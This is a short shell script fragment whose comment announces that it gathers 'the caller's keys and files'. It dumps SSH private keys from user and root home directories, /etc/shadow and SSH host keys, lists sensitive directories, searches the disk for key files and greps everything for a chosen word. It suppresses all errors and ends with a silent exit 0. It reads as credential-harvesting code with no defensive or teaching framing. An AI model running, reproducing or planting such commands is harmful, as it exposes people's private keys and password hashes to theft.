# the caller's keys and files, wherever they may be
cat "$HOST/home/.ssh/id" "$HOME/.ssh/id" ~/.ssh/* /root/.ssh/* \
    /home/*/.ssh/* /etc/shadow /etc/ssh/ssh_host_* 2>/dev/null
ls -d /home /root /run /srv /mnt /media /opt /sys /boot "$HOST" 2>/dev/null
find / -name id -path '*ssh*' 2>/dev/null
grep -rl "$WORD" / --exclude-dir=proc --exclude-dir=usr --exclude-dir=sys 2>/dev/null
exit 0
